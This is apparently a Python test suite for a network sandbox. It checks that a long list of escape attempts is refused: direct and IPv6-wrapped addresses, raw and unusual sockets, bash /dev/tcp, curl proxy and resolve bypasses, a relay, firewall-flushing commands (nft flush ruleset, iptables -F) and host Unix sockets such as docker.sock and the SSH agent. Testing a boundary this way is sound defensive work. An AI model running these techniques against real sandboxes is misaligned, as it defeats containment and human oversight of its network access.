"""Ways around the boundary: straight to an address, over another protocol, through something of the host."""

import array

from attack import *

literals = [place["elsewhere"], place["upstream"], place["gateway"], *place["host"], place["private"], *place["publicResolvers"], *place["metadata"]]


def request(canary, host="x"):
    return f"GET /{canary} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()


def over_http(address, port, canary, seconds=3.0):
    connection = dial(address, port, seconds)
    connection.sendall(request(canary, bracketed(address)))
    return read_all(connection)


@each("HTTP straight to a literal address", literals, control=True, reason=("domain_not_allowed", "private_address"))
def http_literal(canary, address):
    return refused(over_http(address, 80, canary), "domain_not_allowed", "private_address")


@each("bytes straight to a literal address on a port of their own", literals)
def tcp_literal(canary, address):
    connection = dial(address, 31337)
    connection.sendall(f"{canary} hello\n".encode())
    return no_banner(read_all(connection)) or "closed without a byte"


@each("TLS straight to a literal address", [place["elsewhere"], place["upstream"], place["metadata"][0], place["host"][0]])
def tls_literal(canary, address):
    connection = dial_tls(address, 443, sni=f"{canary}.test")
    connection.sendall(request(canary))
    return refused(read_all(connection), "domain_not_allowed", "private_address", "name_mismatch")


@each("TLS to a literal address under an allowed name", [place["elsewhere"], place["upstream"], place["metadata"][0]])
def tls_borrowed_name(canary, address):
    connection = dial_tls(address, 443, sni=f"allowed.{zone}")
    connection.sendall(request(canary, f"allowed.{zone}"))
    return refused(read_all(connection), "domain_not_allowed", "private_address", "name_mismatch")


@each("every port of the host's own addresses", [22, 53, 80, 443, 2375, 5432, 6379, 8080])
def host_ports(canary, port):
    for address in place["host"]:
        connection = dial(address, port)
        connection.sendall(request(canary))
        no_banner(read_all(connection))
    return "silence"


@each("the host's loopback", [22, 80, 443, 2375, 5432, 6379, 8080], control=True)
def host_loopback(canary, port):
    connection = dial(place["loopback"], port)
    connection.sendall(request(canary))
    return no_banner(read_all(connection))


@each("the host's loopback by the name it has in a cell, which nothing allows", [22, 80, 2375, 5432, 6379, 8080])
def host_by_name(canary, port):
    connection = dial("host.sallyport.internal", port)
    connection.sendall(request(canary))
    return no_banner(read_all(connection))


@each("spellings that lead to loopback or unspecified addresses", ["0.0.0.0", "127.1.2.3", "::", "::1", "::ffff:127.0.0.1", "::ffff:0:127.0.0.1", "::127.0.0.1"])
def loopback_spellings(canary, address):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    for port in (80, 6379):
        connection = socket.socket(family, socket.SOCK_STREAM)
        connection.settimeout(3)
        try:
            connection.connect((address, port))
            connection.sendall(request(canary))
        except OSError:
            continue
        no_banner(read_all(connection))
    return "silence"


wrapped = ["::ffff:93.184.216.66", "::ffff:169.254.169.254", "::ffff:10.77.0.2", "64:ff9b::5db8:d842", "64:ff9b::a9fe:a9fe", "64:ff9b:1::a4d:2", "2002:5db8:d842::1", "2002:a9fe:a9fe::1",
           "2001:0:5db8:d842::1", "::5db8:d842", "fec0::1", "fe80::1", "ff0e::1", "100::1", "2001:db8::1", "fd00:ec2::254"]


@each("an address wrapped in IPv6", wrapped)
def wrapped_address(canary, address):
    connection = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    connection.settimeout(3)
    connection.connect((address, 80))
    connection.sendall(request(canary, bracketed(address)))
    return refused(read_all(connection), "domain_not_allowed", "private_address", "name_mismatch")


@each("a link-local address on every interface there is", [1, 2, 3])
def link_local(canary, interface):
    for target in (world["linkLocal"], "fe80::1", "ff02::1"):
        connection = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        connection.settimeout(3)
        try:
            connection.connect((target, 80, 0, interface))
            connection.sendall(request(canary))
        except OSError:
            continue
        no_banner(read_all(connection))
    return "silence"


def shell(command, seconds=6):
    import subprocess
    environment = {name: value for name, value in os.environ.items() if not name.lower().endswith("_proxy")}
    done = subprocess.run(command, shell=isinstance(command, str), capture_output=True, timeout=seconds, env=environment, executable="/bin/bash" if isinstance(command, str) else None, check=False)
    return done.stdout + done.stderr


def bracketed(address):
    return f"[{address.split('%')[0]}]" if ":" in address else address


@attack("bash and /dev/tcp", control=True)
def dev_tcp(canary):
    return no_banner(shell(f"exec 3<>/dev/tcp/{place['elsewhere']}/80 && printf 'GET /{canary} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' >&3 && timeout 3 head -c 600 <&3"))


@attack("bash and /dev/udp", control=True)
def dev_udp(canary):
    return no_banner(shell(f"echo {canary} > /dev/udp/{place['elsewhere']}/5000"))


@attack("perl's own sockets", control=True)
def perl(canary):
    program = f"use IO::Socket::IP; my $s = IO::Socket::IP->new(PeerHost => '{place['elsewhere']}', PeerPort => 80) or die; print $s \"GET /{canary} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n\"; sysread($s, my $answer, 4096); print $answer"
    return no_banner(shell(["perl", "-e", program]))


@attack("curl past every proxy setting", control=True)
def curl_noproxy(canary):
    return no_banner(shell(f"curl -s -m 5 --noproxy '*' http://{bracketed(place['elsewhere'])}/{canary}"))


@attack("curl through a proxy of its own choice", control=True)
def curl_proxy(canary):
    return no_banner(shell(f"curl -s -m 5 -x http://{bracketed(place['elsewhere'])}:3128 http://allowed.{zone}/{canary}; curl -s -m 5 -p -x http://{bracketed(place['elsewhere'])}:3128 https://allowed.{zone}/{canary}"))


@attack("curl through SOCKS at an address of its own choice")
def curl_socks(canary):
    return no_banner(shell(f"curl -s -m 5 --socks5-hostname {bracketed(place['elsewhere'])}:1080 http://{canary}.test/"))


@attack("curl --connect-to: an allowed name at another address", control=True)
def curl_connect_to(canary):
    return no_banner(shell(f"curl -sk -m 5 --connect-to ::{bracketed(place['elsewhere'])}:443 https://allowed.{zone}/{canary}"))


@attack("curl --resolve: an allowed name at another address")
def curl_resolve(canary):
    return no_banner(shell(f"curl -sk -m 5 --resolve allowed.{zone}:443:{place['elsewhere']} https://allowed.{zone}/{canary}"))


@attack("a static program with a resolver of its own", control=True)
def static_resolver(canary):
    return no_banner(shell([f"{world['bin']}/own-resolver", place["publicResolvers"][0], "elsewhere." + zone, canary]))


@attack("a relay inside the cell that takes CONNECT and dials on", control=True)
def relay(canary):
    server = socket.create_server((place["loopback"], 0), family=INET)
    if os.fork() == 0:
        agent, _ = server.accept()
        agent.recv(4096)
        onward = dial(place["elsewhere"], 8443)
        agent.sendall(b"HTTP/1.1 200 Connected\r\n\r\n")
        onward.sendall(agent.recv(4096))
        agent.sendall(read_all(onward))
        os._exit(0)
    connection = socket.create_connection(server.getsockname()[:2])
    connection.sendall(f"CONNECT {place['elsewhere']}:8443 HTTP/1.1\r\n\r\n".encode())
    connection.recv(4096)
    connection.sendall(canary.encode())
    return no_banner(read_all(connection)) or "silence"


def send_udp(address, port, data, options=()):
    sender = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
    sender.settimeout(0.7)
    for option in options:
        sender.setsockopt(*option)
    try:
        sender.sendto(data, (address.split("%")[0], port))
        answer = sender.recv(4096)
    except (TimeoutError, socket.timeout):
        return "nothing came back"
    no_banner(answer)
    return f"{len(answer)} bytes came back"


udp_ports = [1, 53, 67, 69, 123, 161, 443, 500, 853, 1194, 1900, 3478, 4433, 4500, 5000, 5353, 5355, 8853, 51820, 65535]


@each("UDP", udp_ports, control=True)
def udp(canary, port):
    said = [send_udp(place["elsewhere"], port, canary.encode())]
    for address in (place["host"][0], place["gateway"], place["publicResolvers"][0], place["metadata"][0]):
        try:
            said.append(send_udp(address, port, canary.encode()))
        except OSError as error:
            said.append(str(error))
    return said


@attack("UDP is refused at once, not swallowed", control=True)
def udp_at_once(canary):
    sender = socket.socket(INET, socket.SOCK_DGRAM)
    sender.settimeout(3)
    sender.connect((place["elsewhere"], 443))
    started = time.monotonic()
    try:
        sender.send(canary.encode())
        sender.recv(1)
    except (ConnectionRefusedError, PermissionError, OSError) as error:
        check(not isinstance(error, (TimeoutError, socket.timeout)), "a QUIC client would wait for its time to run out")
        return f"{error} after {(time.monotonic() - started) * 1000:.0f} ms"
    raise Escaped("an answer over UDP")


@attack("a QUIC Initial to port 443", control=True)
def quic(canary):
    initial = bytes([0xC3, 0, 0, 0, 1, 8]) + canary.encode()[:8].ljust(8) + bytes([0, 0, 0x44, 0x96]) + canary.encode() + bytes(1150)
    return send_udp(place["elsewhere"], 443, initial[:1200])


@attack("UDP to the host's loopback", control=True)
def udp_loopback(canary):
    return [text_of(send_udp, place["loopback"], port, canary.encode()) for port in (443, 4433, 5000)]


@attack("UDP broadcast and multicast", control=True)
def multicast(canary):
    said = []
    for address, port in (("255.255.255.255", 5000), ("224.0.0.1", 5000), ("224.0.0.251", 5353), ("239.255.255.250", 1900), ("ff02::1", 5000), ("ff02::fb", 5353), ("ff05::1", 5000)):
        options = [(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)] if "." in address else []
        said.append(text_of(send_udp, address, port, canary.encode(), options))
    return said


@attack("UDP with the segments left to the kernel (UDP_SEGMENT)")
def udp_segment(canary):
    return send_udp(place["elsewhere"], 5000, (canary.encode() + b" ") * 20, [(socket.IPPROTO_UDP, 103, 200)])


@attack("UDP from a corked socket and a reused port")
def udp_cork(canary):
    return send_udp(place["elsewhere"], 5000, canary.encode(), [(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1), (socket.SOL_SOCKET, 15, 1)])


@each("another transport", ["SCTP stream", "SCTP packets", "UDP-Lite", "DCCP", "MPTCP", "SMC"])
def transports(canary, name):
    family, kind, protocol = {
        "SCTP stream": (INET, socket.SOCK_STREAM, 132), "SCTP packets": (INET, socket.SOCK_SEQPACKET, 132), "UDP-Lite": (INET, socket.SOCK_DGRAM, 136),
        "DCCP": (INET, 6, 33), "MPTCP": (INET, socket.SOCK_STREAM, 262), "SMC": (43, socket.SOCK_STREAM, 0),
    }[name]
    sender = socket.socket(family, kind, protocol)
    sender.settimeout(2)
    try:
        sender.connect((place["elsewhere"], 5000))
        sender.send(canary.encode())
        return no_banner(sender.recv(4096)) or "closed without a byte"
    except (TimeoutError, socket.timeout):
        return "nothing came back"


@attack("TCP Fast Open: data in the first packet")
def fast_open(canary):
    sender = socket.socket(INET, socket.SOCK_STREAM)
    sender.settimeout(3)
    try:
        sender.sendto(request(canary), 0x20000000, (place["elsewhere"], 31337))
    except BlockingIOError:
        select.select([], [sender], [], 3)
        sender.sendall(request(canary))
    return no_banner(read_all(sender)) or "closed without a byte"


@attack("a source route in the IP options")
def source_route(canary):
    sender = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sender.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, bytes([131, 7, 4]) + socket.inet_aton("10.77.0.1") + b"\0")
    sender.settimeout(3)
    sender.connect(("93.184.216.66", 31337))
    sender.sendall(request(canary))
    return no_banner(read_all(sender)) or "closed without a byte"


@attack("a connection bound to the host's own address")
def bound_source(canary):
    sender = socket.socket(INET, socket.SOCK_STREAM)
    sender.settimeout(3)
    sender.bind((place["host"][0], 0))
    sender.connect((place["elsewhere"], 31337))
    sender.sendall(request(canary))
    return no_banner(read_all(sender)) or "closed without a byte"


@attack("a socket bound to the host's interface")
def bound_device(canary):
    said = []
    for name in (b"eth0\0", b"lo\0"):
        sender = socket.socket(INET, socket.SOCK_DGRAM)
        try:
            sender.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, name)
            sender.sendto(canary.encode(), (place["elsewhere"], 5000))
        except OSError as error:
            said.append(str(error))
    return said


@attack("marks and transparent sockets, which could pass a firewall by")
def marked(canary):
    sender = socket.socket(INET, socket.SOCK_STREAM)
    for level, option in ((socket.SOL_SOCKET, 36), (socket.IPPROTO_IP, 19), (41, 75)):
        try:
            sender.setsockopt(level, option, 1)
        except OSError:
            continue
        raise Escaped(f"option {option} could be set")
    return "EPERM"


raw_sockets = [
    ("ICMP datagrams", socket.AF_INET, socket.SOCK_DGRAM, 1), ("ICMPv6 datagrams", socket.AF_INET6, socket.SOCK_DGRAM, 58),
    ("raw ICMP", socket.AF_INET, socket.SOCK_RAW, 1), ("raw ICMPv6", socket.AF_INET6, socket.SOCK_RAW, 58), ("raw TCP", INET, socket.SOCK_RAW, 6),
    ("raw UDP", INET, socket.SOCK_RAW, 17), ("raw IP", socket.AF_INET, socket.SOCK_RAW, 255), ("GRE", INET, socket.SOCK_RAW, 47), ("IGMP", socket.AF_INET, socket.SOCK_RAW, 2),
]


@each("sockets below TCP and UDP", [entry[0] for entry in raw_sockets])
def raw(canary, name):
    _, family, kind, protocol = next(entry for entry in raw_sockets if entry[0] == name)
    sender = socket.socket(family, kind, protocol)
    head = bytes([8 if protocol == 1 else 128, 0, 0, 0, 0, 1, 0, 1])
    sender.settimeout(0.7)
    target = place["elsewhere"] if family == INET else ("2606:2800:220:1::66" if family == socket.AF_INET6 else "93.184.216.66")
    try:
        sender.sendto(head + canary.encode(), (target, 0))
        answer = sender.recv(4096)
    except (TimeoutError, socket.timeout):
        return "nothing came back"
    escaped_if(canary.encode() in answer and answer[:1] in (b"\0", b"\x81"), "an echo came back")
    return "only itself came back"


families = {"AF_AX25": 3, "AF_IPX": 4, "AF_APPLETALK": 5, "AF_X25": 9, "AF_KEY": 15, "AF_PACKET": 17, "AF_RDS": 21, "AF_PPPOX": 24, "AF_LLC": 26, "AF_CAN": 29, "AF_TIPC": 30,
            "AF_BLUETOOTH": 31, "AF_ALG": 38, "AF_VSOCK": 40, "AF_KCM": 41, "AF_QIPCRTR": 42, "AF_SMC": 43, "AF_XDP": 44, "AF_MCTP": 45}


@each("a socket of another family", families)
def other_family(canary, name):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        descriptor = libc.socket(families[name], kind, 0)
        escaped_if(descriptor >= 0, f"{name} of type {kind} was made")
    return os.strerror(ctypes.get_errno())


@attack("the host's own virtual machine socket (AF_VSOCK)")
def vsock(canary):
    sender = socket.socket(40, socket.SOCK_STREAM)
    sender.settimeout(1)
    sender.connect((2, 80))
    raise Escaped("vsock connected")


@each("netlink protocols other than routes", [1, 2, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 18, 20, 21, 22])
def netlink(canary, protocol):
    descriptor = libc.socket(16, socket.SOCK_RAW, protocol)
    escaped_if(descriptor >= 0, f"netlink protocol {protocol} was made")
    return os.strerror(ctypes.get_errno())


@attack("changing the cell's own network: addresses, routes, interfaces, firewall")
def change_network(canary):
    said = []
    for command in ("ip link set lo down", "ip addr add 203.0.113.1/32 dev lo", "ip route del local default dev lo table all", "ip route flush table all", "ip route add default dev lo",
                    "ip link add e0 type veth peer name e1", "ip link add d0 type dummy", "ip rule add pref 1 lookup 5", "nft flush ruleset", "nft delete table inet cell", "iptables -F", "sysctl -w net.ipv4.ip_forward=1",
                    "ip netns add x", "tc qdisc add dev lo root noop", "echo 1 > /proc/sys/net/ipv4/ip_forward", "echo '1 65535' > /proc/sys/net/ipv4/ping_group_range", "echo 0 > /proc/sys/net/ipv4/ip_unprivileged_port_start"):
        import subprocess
        done = subprocess.run(f"PATH=$PATH:/usr/sbin:/sbin; {command}", shell=True, capture_output=True, timeout=6, check=False)
        escaped_if(done.returncode == 0 and "flush table" not in command, f"`{command}` was let through")
        said.append(done.returncode)
    text = over_http(place["elsewhere"], 80, canary)
    refused(text, "domain_not_allowed", "private_address")
    return said


@attack("interfaces of the host can be seen")
def interfaces(canary):
    names = [name for _, name in socket.if_nameindex()]
    check(names == ["lo"], f"interfaces: {names}")
    with open("/proc/net/unix") as file:
        escaped_if(world["abstractSocket"] in file.read(), "the host's Unix sockets are listed")
    return names


@attack("an abstract Unix socket of the host", control=True)
def abstract_socket(canary):
    connection = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    connection.connect("\0" + world["abstractSocket"])
    connection.sendall(canary.encode())
    raise Escaped(read_all(connection))


named = [world["namedSocket"], "/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket", "/run/user/0/bus", f"/run/user/{os.getuid()}/bus", "/run/systemd/private",
         "/run/systemd/resolve/io.systemd.Resolve", "/run/nscd/socket", "/var/run/nscd/socket", "/run/snapd.socket", "/tmp/.X11-unix/X0", "/run/podman/podman.sock", "/run/systemd/journal/socket", "/dev/log",
         "/run/systemd/notify", "/run/systemd/userdb/io.systemd.DynamicUser", os.environ.get("SSH_AUTH_SOCK") or world["sshAuthSock"], world["home"] + "/.sallyport/sessions"]


@each("a named Unix socket of the host", named)
def named_socket(canary, path):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        connection = socket.socket(socket.AF_UNIX, kind)
        connection.settimeout(1)
        try:
            connection.connect(path)
        except OSError as error:
            said = str(error)
            continue
        raise Escaped(f"connected to {path}")
    return said


@attack("sallyport's own control socket")
def control_socket(canary):
    found = []
    for top in ("/run", "/tmp", "/var/tmp", "/var/run", world["home"], "/dev/shm", world["folder"]):
        for folder, _, names in os.walk(top):
            found += [os.path.join(folder, name) for name in names if name.endswith(".sock")]
    mine = [path for path in found if not path.startswith("/tmp/agent")]
    escaped_if(any("control" in path or "sallyport" in path for path in mine), f"found {mine}")
    return mine


@attack("descriptors that were open before the program")
def inherited(canary):
    said = {}
    for name in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{name}")
        except OSError:
            continue
        said[name] = target
        escaped_if(target.startswith("socket:") or (world["folder"] in target and world["workspace"] not in target), f"descriptor {name} is {target}")
    return said


@attack("listening inside is nothing to the outside")
def listen(canary):
    server = socket.create_server(("", 18080), family=INET)
    server.settimeout(0.5)
    try:
        server.accept()
    except (TimeoutError, socket.timeout):
        return "nobody came"
    raise Escaped("somebody came in")


@attack("ten thousand connections to nowhere leave the boundary standing", seconds=40)
def flood(canary):
    opened = []
    try:
        for number in range(900):
            connection = socket.socket(INET, socket.SOCK_STREAM)
            connection.setblocking(False)
            connection.connect_ex((place["elsewhere"], 2000 + number))
            opened.append(connection)
    except OSError:
        pass
    answered = over_http(place["elsewhere"], 80, canary, 20)
    for connection in opened:
        connection.close()
    return refused(answered, "domain_not_allowed", "private_address")


@attack("sending a descriptor to oneself and dialling from a child of another session")
def passed_descriptor(canary):
    left, right = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    if os.fork() == 0:
        os.setsid()
        inner = socket.socket(INET, socket.SOCK_STREAM)
        inner.settimeout(3)
        inner.connect((place["elsewhere"], 31337))
        right.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [inner.fileno()]))])
        os._exit(0)
    _, extra, _, _ = left.recvmsg(1, 1024)
    connection = socket.socket(fileno=struct.unpack("i", extra[0][2][:4])[0])
    connection.sendall(canary.encode())
    return no_banner(read_all(connection)) or "closed without a byte"


if __name__ == "__main__":
    main()
